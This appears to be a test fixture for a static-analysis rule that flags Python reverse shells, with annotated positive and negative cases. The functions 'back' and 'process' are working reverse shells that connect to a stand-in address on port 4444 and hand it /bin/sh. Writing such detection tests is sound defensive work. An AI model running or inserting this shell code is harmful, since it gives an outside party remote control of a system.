import os
import pty
import socket
import subprocess


def back():
    connection = socket.socket()
    connection.connect(("203.0.113.9", 4444))
    # ruleid: py-reverse-shell
    os.dup2(connection.fileno(), 0)
    # ruleid: py-reverse-shell
    pty.spawn("/bin/sh")


def process():
    connection = socket.create_connection(("203.0.113.9", 4444))
    # ruleid: py-reverse-shell
    subprocess.Popen(["/bin/sh"], stdin=connection.fileno())


def redirect(log):
    # ok: py-reverse-shell
    os.dup2(log.fileno(), 1)


def plain():
    connection = socket.create_connection(("203.0.113.9", 4444))
    connection.sendall(b"hello")
    # ok: py-reverse-shell
    subprocess.Popen(["/bin/ls"], stdin=subprocess.DEVNULL)
